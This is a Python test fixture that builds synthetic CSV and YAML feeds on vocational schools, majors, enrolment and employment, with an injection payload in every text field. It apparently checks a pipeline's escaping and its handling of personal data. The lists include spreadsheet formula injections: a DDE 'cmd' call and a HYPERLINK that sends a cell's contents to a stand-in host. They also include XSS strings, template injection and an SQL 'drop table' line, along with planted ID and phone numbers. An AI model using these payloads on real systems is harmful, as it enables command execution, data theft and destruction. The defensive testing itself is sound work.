"""A city in whose deliveries every field that is free text holds every payload: one school for each text of them."""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

import yaml

# what a spreadsheet may take for a formula where a cell begins
STARTS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"看")',
    "'=1+1",
    "甲;=1+1",
    "甲\n=1+1",
    " =1+1",
    "\u3000＝1+1",
)
# what a page, a workbook or a typesetter may take for its own, wherever it stands
INSIDE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</title><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "--><b>甲</b><!--",
    "{{ 7*7 }}{% raw %}",
    "&lt;b&gt;&#x3c;i&#x3e;&amp;",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><f>1+1</f><![CDATA[",
    "_x003D_1+1",
    '#eval("1+1") *粗* _斜_ @ref //注',
    r"$\frac{1}{2}$ %s {0} ${x}",
    "\u202e乙\u0007",
    "1');drop table marts.verdict;--",
    '","=1+1',
)
WHOLE = ("<r><t>甲</t></r>", "javascript:alert(1)")
PAYLOADS = (*STARTS, *INSIDE, *WHOLE)
# one of each pair at the start of a text, the other in it: half as many schools, and none of them spared
HOSTILE = (*(start + inside for start, inside in zip(STARTS, INSIDE, strict=True)), *WHOLE)
# what names a person: in a decision of its own, in the name of a file and in what is said of the file
PERSON = "王小明（身份证11010519491231002X，手机13800138000）"
REASON = "学生李四（身份证号11010519491231002X，电话13912345678，邮箱lisi@example.com）未就业"
PERSONAL = ("11010519491231002", "13800138000", "13912345678", "lisi@", "王小明", "李四", "赵六")
CATALOGUE, LEVEL = "vocational-2021", "associate"
CLASSIFICATION = {"industry_classification": "gbt4754-2017"}
REGION = {"region_code": "500000"}
YEARS = (2024, 2025)
Rows = Sequence[Mapping[str, Any]]


def deliver(raw: Path, texts: Sequence[str] = HOSTILE) -> Path:
    """Write the deliveries of the city, the text of each school in all that is said of it."""
    for feed, rows in _feeds(texts).items():
        _write(raw / feed / f"{feed}.csv", rows)
    for place, text in enumerate(texts):
        path = raw / "institution" / f"{place:02}.csv"
        _write(path, [_institution(place, text)])
        facts = dict.fromkeys(("publisher", "title", "url", "licence"), text)
        path.with_name(f"{path.name}.source.yaml").write_text(
            yaml.safe_dump(facts | {"feed": "institution", "synthetic": True}, allow_unicode=True),
            encoding="utf-8",
        )
    _deliver_personal(raw / "decision", texts[0])
    return raw


def _deliver_personal(folder: Path, text: str) -> None:
    """A decision about a person, under a plain name and under one that names the person."""
    decided = {"year": YEARS[0], "decision": "confirmed", "decided_on": "2026-03-02"}
    said = {"document_number": "测〔2026〕1号", "decided_by": PERSON, "reason": REASON}
    row = _program(0, text) | decided | said
    for name in ("处理决定.csv", "王小明 11010519491231002X 13800138000.csv", "来源.csv"):
        _write(folder / name, [row])
    stated = {"feed": "decision", "publisher": "赵六 13800138000"}
    (folder / "来源.csv.source.yaml").write_text(yaml.safe_dump(stated, allow_unicode=True), encoding="utf-8")


def _write(path: Path, rows: Rows) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, list(rows[0]), quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows(rows)


def _institution(place: int, text: str) -> dict[str, Any]:
    names = dict.fromkeys(("institution_name", "institution_type", "district_name", "authority"), text)
    return {"institution_code": _school(place), "district_code": f"50{place:04}", **names}


def _school(place: int) -> str:
    return f"41500{place:05}"


def _major(place: int) -> str:
    return f"53{place:04}"


def _feeds(texts: Sequence[str]) -> dict[str, Rows]:
    places = list(enumerate(texts))
    programs = [(place, text, _program(place, text)) for place, text in places]
    return {
        "major": [
            {"catalogue_version": CATALOGUE, "major_code": _major(place), "level": LEVEL}
            | {"major_class_code": f"53{place:02}", "major_division_code": "53"}
            | dict.fromkeys(("major_name", "major_class_name", "major_division_name"), text)
            for place, text in places
        ],
        "enrolment": [
            program | {"enrolment_year": year, "planned": 50, "admitted": 50}
            for _, _, program in programs
            for year in (2021, 2022, *YEARS)
        ],
        "employment": [*_employment(programs)],
        "decision": [
            program
            | {
                "year": YEARS[-1],
                "decision": "deferred",
                "decided_card": "yellow",
                "decided_on": "2026-03-02",
            }
            | dict.fromkeys(("decided_by", "document_number", "reason"), text)
            for _, text, program in programs
        ],
        "program_setting": [
            program | {"year": YEARS[-1], "event": "expanded", "document_number": text}
            for _, text, program in programs
        ],
        "exemption": [
            program
            | {
                "reason": "listed",
                "valid_from": "2018-01-01",
                "valid_to": "2020-01-01",
                "document_number": text,
            }
            for _, text, program in programs
        ],
        "target": [
            {"target_code": f"t{place}", "year": YEARS[-1], "target_value": 10, "actual_value": 5}
            | dict.fromkeys(("target_name", "clause", "unit"), text)
            for place, text in places
        ],
        **_industries(places),
    }


def _program(place: int, text: str) -> dict[str, Any]:
    code = {"institution_code": _school(place), "catalogue_version": CATALOGUE, "major_code": _major(place)}
    return code | {"level": LEVEL} | dict.fromkeys(("institution_name", "major_name"), text)


def _employment(programs: Iterable[tuple[int, str, dict[str, Any]]]) -> Iterable[dict[str, Any]]:
    """Two cohorts below the line each, and a row that is refused for what stands in its counts."""
    for place, text, program in programs:
        for year in YEARS:
            counts = {"graduates": 60 + place, "placed": 24 + place // 4}
            yield program | {"cohort_year": year, "observation": "year_end", **counts}
        refused = {"graduates": text, "placed": text}
        yield program | {"cohort_year": YEARS[0] - 1, "observation": "year_end", **refused}


def _industries(places: Iterable[tuple[int, str]]) -> dict[str, Rows]:
    codes = [(f"A{place:02}", place, text) for place, text in places]
    return {
        "industry": [
            CLASSIFICATION | {"industry_code": code, "industry_name": text, "granularity": "section"}
            for code, _, text in codes
        ],
        "vacancy": [
            CLASSIFICATION
            | REGION
            | {
                "region_name": text,
                "industry_code": code,
                "year": year,
                "level": LEVEL,
                "vacancies": 40 + place,
            }
            for code, place, text in codes
            for year in YEARS
        ],
        "crosswalk": [
            CLASSIFICATION
            | {"crosswalk_source": "expert", "catalogue_version": CATALOGUE, "major_scope": "major"}
            | {
                "major_scope_code": _major(place),
                "major_scope_name": text,
                "industry_code": code,
                "weight": 1,
            }
            for code, place, text in codes
        ],
    }
